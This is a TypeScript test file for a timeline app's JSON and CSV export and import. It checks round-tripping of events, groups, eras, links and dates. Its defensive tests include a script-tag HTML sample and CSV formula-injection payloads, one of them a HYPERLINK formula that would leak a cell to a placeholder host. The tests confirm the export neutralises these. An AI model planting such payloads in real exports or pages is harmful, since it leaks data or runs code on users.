import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { csvParseRows } from 'd3-dsv';
import { describe, expect, it } from 'vitest';
import { type LoadResult } from './parse-store.ts';
import { parseCsvText } from './parse-csv.ts';
import { parseJsonText } from './parse-json.ts';
import type { Dataset, TimelineEvent } from './schema.ts';
import { storeCsvText, storeJsonText, storeOf } from './store-json.ts';

const read = (file: string) => readFileSync(resolve(__dirname, '../../public/data', file), 'utf8');

function ready(result: LoadResult): Dataset {
  if (result.kind !== 'ok') throw new Error(`did not load: ${JSON.stringify(result.reason)}`);
  expect(result.problems).toEqual([]);
  return result.dataset;
}

const seed = ready(parseJsonText(read('trump-russia.json'), 'trump-russia.json'));
const fromCsv = ready(parseCsvText(read('template.csv'), 'template.csv'));

const subsets: [string, (e: TimelineEvent) => boolean][] = [
  ['every event', () => true],
  ['one topic', (e) => e.topics.includes('nato')],
  ['spans and seasons', (e) => e.date.precision === 'span' || e.date.precision === 'season'],
  ['one event', (e) => e.id === seed.events[3]?.id],
];

describe('an event with rich text (from TimelineJS), exported as JSON', () => {
  it('loads back with its HTML, to be shown through the same allow-list', () => {
    const html = '<p>Met in <em>Helsinki</em>.</p><script>alert(1)</script>';
    const store = {
      version: 1,
      title: 'Rich',
      topics: [{ id: 'news', label: 'News', color: '#1d4ed8' }],
      events: [
        {
          id: 'summit',
          title: 'Summit',
          summary: 'Met in Helsinki.',
          summaryHtml: html,
          date: { precision: 'day', start: '2018-07-16' },
          topics: ['news'],
        },
      ],
    };
    const dataset = ready(parseJsonText(JSON.stringify(store), 'rich.json'));
    expect(dataset.events[0]?.summaryHtml).toBe(html);
    const back = ready(parseJsonText(storeJsonText(dataset, dataset.events), 'export.json'));
    expect(back.events).toEqual(dataset.events);
  });
});

describe.each([
  ['JSON', storeJsonText, (text: string) => parseJsonText(text, 'export.json')],
  ['CSV', storeCsvText, (text: string) => parseCsvText(text, 'export.csv')],
])('events exported as %s', (_, write, parse) => {
  it.each(subsets)('load back as the same events: %s', (__, keep) => {
    for (const dataset of [seed, fromCsv]) {
      const shown = dataset.events.filter(keep);
      expect(shown.length).toBeGreaterThan(0);
      const back = ready(parse(write(dataset, shown)));
      expect(back.events).toEqual(shown);
    }
  });

  it('carry the title, description, note and source', () => {
    const back = ready(parse(write(seed, seed.events.slice(0, 2))));
    expect(back).toMatchObject({
      title: seed.title,
      description: seed.description,
      note: seed.note,
      source: seed.source,
    });
    expect(seed.source?.publisher).toBeTruthy();
  });

  it('carry the dates of change, the events’ and the dataset’s, as written', () => {
    const marked = seed.events.filter((e) => e.added !== undefined);
    expect(marked.map((e) => e.id)).toEqual([
      'georgia-statement',
      'skripal-sanctions',
      'russian-bounties',
    ]);
    const store = {
      version: 1,
      title: 'Changes',
      updated: '2020-07-30',
      topics: [{ id: 't', label: 'T', color: '#1d4ed8' }],
      events: [
        {
          id: 'a',
          title: 'A',
          date: { precision: 'day', start: '2016-05-01' },
          added: '2019-11-17',
          updated: '2020-07-30',
          changeNote: 'Updated with the Axios interview',
          topics: ['t'],
        },
      ],
    };
    const dataset = ready(parseJsonText(JSON.stringify(store), 'changes.json'));
    const back = ready(parse(write(dataset, dataset.events)));
    expect(back.updated).toBe('2020-07-30');
    expect(back.events[0]).toMatchObject({
      added: '2019-11-17',
      updated: '2020-07-30',
      changeNote: 'Updated with the Axios interview',
    });
    const seedBack = ready(parse(write(seed, marked)));
    expect(seedBack.updated).toBe('2020-07');
    expect(seedBack.events.map((e) => [e.added, e.changeNote])).toEqual(
      marked.map((e) => [e.added, e.changeNote]),
    );
  });

  it('carry where the timeline opens', () => {
    const latest: Dataset = { ...seed, start: 'latest' };
    expect(ready(parse(write(latest, seed.events.slice(0, 2)))).start).toBe('latest');
    expect(ready(parse(write(seed, seed.events.slice(0, 2)))).start).toBeUndefined();
  });

  it('keep dates as written: a span from a year, a label only where the author gave one', () => {
    const store = {
      version: 1,
      title: 'Dates',
      topics: [{ id: 't', label: 'T', color: '#1d4ed8' }],
      events: [
        {
          id: 'a',
          title: 'A',
          date: { precision: 'span', start: '2016', end: '2017-03' },
          topics: ['t'],
        },
        {
          id: 'b',
          title: 'B',
          date: { precision: 'month', start: '2016-05', label: 'Late spring 2016' },
          topics: ['t'],
        },
      ],
    };
    const dataset = ready(parseJsonText(JSON.stringify(store), 'dates.json'));
    const again = ready(parse(write(dataset, dataset.events)));
    expect(again.events.map((e) => e.writtenDate)).toEqual([
      { precision: 'span', start: '2016', end: '2017-03' },
      { precision: 'month', start: '2016-05', label: 'Late spring 2016' },
    ]);
    expect(again.events.map((e) => e.date.label)).toEqual([
      '2016 – March 2017',
      'Late spring 2016',
    ]);
  });
});

describe('groups and eras', () => {
  const store = {
    version: 1,
    title: 'Congress',
    topics: [{ id: 't', label: 'T', color: '#1d4ed8' }],
    groups: [
      { id: 'senate', label: 'Senate', color: '#047857' },
      { id: 'house', label: 'House' },
      { id: 'lords', label: 'Lords' },
    ],
    eras: [
      { id: 'war', title: 'The war', start: '1861', end: '1865-04', color: '#b91c1c' },
      { id: 'after', title: 'After', start: '1865-04-09', end: '1877' },
    ],
    events: [
      { id: 'a', title: 'A', date: { precision: 'day', start: '1862-05-01' }, topics: ['t'] },
      {
        id: 'b',
        title: 'B',
        date: { precision: 'year', start: '1866' },
        topics: ['t'],
        group: 'senate',
      },
      {
        id: 'c',
        title: 'C',
        date: { precision: 'month', start: '1870-03' },
        topics: ['t'],
        group: 'house',
      },
    ],
  };
  const dataset = ready(parseJsonText(JSON.stringify(store), 'congress.json'));

  it.each([
    ['JSON', storeJsonText, (text: string) => parseJsonText(text, 'export.json')],
    ['CSV', storeCsvText, (text: string) => parseCsvText(text, 'export.csv')],
  ])('come back from %s with the events’ groups', (_, write, parse) => {
    const back = ready(parse(write(dataset, dataset.events)));
    // The groups the events name, in the store's order: "lords" names none.
    expect(back.groups).toEqual([
      { id: 'senate', label: 'Senate', color: '#047857' },
      { id: 'house', label: 'House' },
    ]);
    expect(back.eras).toEqual(dataset.eras);
    expect(back.events).toEqual(dataset.events);
    expect(back.events.map((e) => e.group)).toEqual([undefined, 'senate', 'house']);
  });

  it('are written to JSON as the store wrote them', () => {
    const written = storeOf(dataset, dataset.events);
    expect(written.groups).toEqual(store.groups.slice(0, 2));
    expect(written.eras).toEqual(store.eras);
    expect(written.events.map((e) => e.group)).toEqual([undefined, 'senate', 'house']);
    expect(written.events[0]).not.toHaveProperty('group');
  });

  it('leave out the groups no exported event names, and keep every era', () => {
    const written = storeOf(
      dataset,
      dataset.events.filter((e) => e.id === 'a'),
    );
    expect(written).not.toHaveProperty('groups');
    expect(written.eras?.map((era) => era.id)).toEqual(['war', 'after']);
  });

  it('are written to CSV as group and era rows and a group column', () => {
    const rows = csvParseRows(storeCsvText(dataset, dataset.events).trimEnd());
    const header = rows[0] ?? [];
    const cells = (row: string[]) =>
      Object.fromEntries(header.map((column, i) => [column, row[i]]).filter(([, cell]) => cell));
    expect(rows.slice(1).map(cells)).toEqual([
      { type: 'timeline', title: 'Congress' },
      { type: 'topic', id: 't', title: 'T', color: '#1d4ed8' },
      { type: 'group', id: 'senate', title: 'Senate', color: '#047857' },
      { type: 'group', id: 'house', title: 'House' },
      { type: 'era', id: 'war', title: 'The war', start: '1861', end: '1865-04', color: '#b91c1c' },
      { type: 'era', id: 'after', title: 'After', start: '1865-04-09', end: '1877' },
      { type: 'event', id: 'a', title: 'A', start: '1862-05-01', precision: 'day', topics: 't' },
      {
        type: 'event',
        id: 'b',
        title: 'B',
        start: '1866',
        precision: 'year',
        topics: 't',
        group: 'senate',
      },
      {
        type: 'event',
        id: 'c',
        title: 'C',
        start: '1870-03',
        precision: 'month',
        topics: 't',
        group: 'house',
      },
    ]);
  });
});

describe('events exported as CSV', () => {
  const FORMULAS = [
    '=HYPERLINK("http://x.test/?leak="&A1,"Click")',
    '+1+1',
    '-2',
    '@SUM(A1)',
    '\tTab',
    "'=quoted",
  ];
  const hostile = {
    version: 1,
    title: FORMULAS[0],
    description: FORMULAS[1],
    topics: [{ id: 't', label: FORMULAS[2], color: '#1d4ed8' }],
    events: [
      {
        id: 'a',
        title: FORMULAS[0],
        summary: FORMULAS[3],
        dateNote: FORMULAS[4],
        date: { precision: 'day', start: '2016-05-01' },
        topics: ['t'],
        people: [FORMULAS[1], FORMULAS[5]],
        quotes: [{ text: FORMULAS[2], speaker: FORMULAS[3] }],
        sources: [{ name: FORMULAS[4], url: 'https://example.com/' }],
      },
    ],
  };
  const dataset = ready(parseJsonText(JSON.stringify(hostile), 'hostile.json'));
  const csv = storeCsvText(dataset, dataset.events);

  it('hold no cell a spreadsheet would run as a formula', () => {
    const cells = csvParseRows(csv.trimEnd()).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain('\'=HYPERLINK("http://x.test/?leak="&A1,"Click")');
  });

  it('read back to the text as it was', () => {
    const back = ready(parseCsvText(csv, 'hostile.csv'));
    expect(back.title).toBe(dataset.title);
    expect(back.description).toBe(dataset.description);
    expect(back.topics.map((t) => t.label)).toEqual([FORMULAS[2]]);
    expect(back.events).toEqual(dataset.events);
  });
});

describe('storeOf', () => {
  it('declares the topics the events name, in the dataset order', () => {
    const shown = seed.events.filter((e) => e.topics.length === 1 && e.topics[0] === 'nato');
    expect(storeOf(seed, shown).topics.map((t) => t.id)).toEqual(['nato']);
  });

  it('declares every topic when there is no event, as a store must declare one', () => {
    expect(storeOf(seed, []).topics).toHaveLength(seed.topics.length);
    expect(ready(parseJsonText(storeJsonText(seed, []), 'none.json')).events).toEqual([]);
  });

  it('writes the store fields and leaves out what is empty', () => {
    const event = seed.events.find((e) => e.people.length === 0 && !e.dateNote)!;
    const [written] = storeOf(seed, [event]).events;
    expect(written).not.toHaveProperty('people');
    expect(written).not.toHaveProperty('dateNote');
    expect(Object.keys(written!.date).sort()).toEqual(
      Object.keys(event.writtenDate)
        .filter((k) => event.writtenDate[k as keyof typeof event.writtenDate] !== undefined)
        .sort(),
    );
  });
});

describe('links between events', () => {
  const event = (id: string, start: string, links?: unknown[]) => ({
    id,
    title: id,
    date: { precision: 'day', start },
    topics: ['t'],
    ...(links && { links }),
  });
  const store = {
    version: 1,
    title: 'Links',
    topics: [{ id: 't', label: 'T', color: '#1d4ed8' }],
    events: [
      event('summit', '2018-07-16', [
        { to: 'denial', kind: 'led-to', note: 'He sided with Putin; “at once”.' },
        { to: 'g20', kind: 'response-to' },
      ]),
      event('denial', '2018-07-17', [{ to: 'summit', kind: 'see-also' }]),
      event('g20', '2017-07-07'),
    ],
  };
  const dataset = ready(parseJsonText(JSON.stringify(store), 'links.json'));

  it.each([
    ['JSON', storeJsonText, (text: string) => parseJsonText(text, 'export.json')],
    ['CSV', storeCsvText, (text: string) => parseCsvText(text, 'export.csv')],
  ])('come back from %s with their kinds and notes', (_, write, parse) => {
    const back = ready(parse(write(dataset, dataset.events)));
    expect(back.events).toEqual(dataset.events);
    expect(back.events.find((e) => e.id === 'summit')?.links).toEqual(store.events[0]?.links);
  });

  it('are written to CSV as kind:id separated by ";", the notes line by line', () => {
    const [header = [], ...rows] = csvParseRows(storeCsvText(dataset, dataset.events));
    const summit = rows.find((row) => row[header.indexOf('id')] === 'summit') ?? [];
    expect(summit[header.indexOf('links')]).toBe('led-to:denial; response-to:g20');
    expect(summit[header.indexOf('link_notes')]).toBe('He sided with Putin; “at once”.\n');
  });

  it('leave out of a filtered export the links to events it leaves out', () => {
    const shown = dataset.events.filter((e) => e.id !== 'g20');
    const written = storeOf(dataset, shown);
    expect(written.events.map((e) => [e.id, e.links?.map((l) => l.to)])).toEqual([
      ['summit', ['denial']],
      ['denial', ['summit']],
    ]);
    const back = parseJsonText(storeJsonText(dataset, shown), 'export.json');
    expect(back).toMatchObject({ kind: 'ok', problems: [] });
  });
});
